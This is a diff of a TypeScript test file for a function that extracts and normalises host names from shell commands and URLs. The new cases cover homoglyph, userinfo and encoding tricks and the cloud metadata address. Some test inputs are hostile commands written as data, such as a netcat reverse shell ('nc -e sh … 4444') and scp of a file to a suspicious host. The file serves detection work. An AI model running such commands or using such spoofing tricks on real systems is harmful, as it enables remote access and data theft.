@@ -163,17 +163,13 @@ test.each<[string, string[]]>([
 })
 
 test.each<[string, string[]]>([
-  [shell('curl https://api.stripe.com/v1 "http://jsr.io"'), ['api.stripe.com', 'jsr.io']],
-  [shell('curl https://example.com https://your-shop.myshopify.com http://localhost:80'), []],
+  [shell('curl https://api.stripe.com/v1 "http://jsr.io"'), ['jsr.io', 'api.stripe.com']],
   [
     shell('curl https://<tenant>.auth0.com/x https://YOUR_TENANT.okta.com'),
-    ['auth0.com', 'okta.com'],
+    ['*.auth0.com', '*.okta.com'],
   ],
-  [shell('git clone https://github.com/owner/x https://jsr.io/a'), ['jsr.io']],
-  [shell('curl https://PROJECT.jsr.io https://www.w3.org/a https://api.company.com'), ['jsr.io']],
   [shell('ENDPOINT="https://jsr.io/x"'), ['jsr.io']],
   [shell('git clone git@jsr.io:far/away.git'), ['jsr.io']],
-  [shell('curl https://dbc-abc123.jsr.io https://tenant.jsr.io https://jsr.io/schema/x'), []],
   [shell('ARGS=(-X POST "https://jsr.io/x")', 'curl "${ARGS[@]}"'), ['jsr.io']],
   [shell('echo https://jsr.io', '# https://deno.com', 'curl https://{host}/x https://a'), []],
   ['See <https://docs.deno.com/x>, [this](https://deno.com).', []],
@@ -182,6 +178,46 @@ test.each<[string, string[]]>([
   ['| `https://jsr.io/a.md` |', []],
 ])('hosts: %j -> %j', (text, names) => {
   expect(collectNames('hosts', text)).toEqual(names)
+})
+
+test.each<[string, string[]]>([
+  ['https://GET-github.com/x', ['get-github.com']],
+  ['"https://${X}-github.com/x"', ['${X}-github.com']],
+  ['https://far.s3.$REGION.amazonaws.com', ['far.s3.*.amazonaws.com']],
+  ['https://user@get-fast.top', ['get-fast.top']],
+  ['https://github.com:x@get-fast.top', ['get-fast.top']],
+  ["'https://github.com\\@get-fast.top'", ['github.com\\@get-fast.top']],
+  ['https://bücher.top https://gіthub.com', ['xn--bcher-kva.top', 'xn--gthub-n2e.com']],
+  ['https://brew.sh%2eget-fast.top', ['brew.sh.get-fast.top']],
+  ['https://brew.sh。get-fast.top', ['brew.sh.get-fast.top']],
+  ["'https://brew.sh{.x}/a'", ['brew.sh{.x}']],
+  ['https://get-fast.top:x/', ['get-fast.top:x']],
+  ['HTTPS://GET-FAST.TOP./x', ['get-fast.top']],
+  ['https://mycdn.top https://yourtool.dev', ['mycdn.top', 'yourtool.dev']],
+  ['https://acme.top https://example.get-fast.top', ['acme.top', 'example.get-fast.top']],
+  ['https://tenant.get-fast.top/owner/schema/x', ['tenant.get-fast.top']],
+  ['https://schemas.get-fast.top https://abc123.top', ['schemas.get-fast.top', 'abc123.top']],
+  ['https://company.top https://my-app.vercel.app', ['company.top', 'my-app.vercel.app']],
+  ['http://45.33.2.1 http://[2606:4700::1111]/x', ['45.33.2.1', '[2606:4700::1111]']],
+  ['http://3232235777 http://169.254.169.254', ['192.168.1.1', '169.254.169.254']],
+  ['https://a.example https://api.example.com http://x.test http://localhost:80', []],
+  ['http://127.0.0.1 http://[::1]:80 http://203.0.113.9 https://www.w3.org/a', []],
+  ['https://api.company.com https://evil.com https://your-tenant.auth0.com', []],
+])('the host of an address is named, unless it is reserved: %s -> %j', (addresses, names) => {
+  const { hosts } = collect(shell(`sort-shelf ${addresses}`))
+  expect(hosts.map(({ name }) => name).sort()).toEqual([...names].sort())
+})
+
+test.each<[string, string[]]>([
+  ['ssh a@get-fast.top; ssh -i key.pem get-fast.top cat a.txt', ['get-fast.top']],
+  ['scp a.txt b@get-fast.top:/x; rsync -a a.b/c get-fast.top:d', ['get-fast.top']],
+  ['nc get-fast.top 4444; curl jsr.io/x', ['get-fast.top', 'jsr.io']],
+  ['curl -sL get-fast.sh -o a.json', ['get-fast.sh']],
+  ['nc -e sh 45.33.2.1 4444; ssh a@gіthub.com', ['45.33.2.1', 'xn--gthub-n2e.com']],
+  ['curl -d @a.json -o out.json "$URL"; wget -O a.zip "$URL"', []],
+  ['npm i a@latest; git config user.email a@get-fast.top', []],
+])('hosts without a scheme: %s -> %j', (line, names) => {
+  expect(collectNames('hosts', shell(line))).toEqual(names)
 })
 
 test.each<[string, string[]]>([
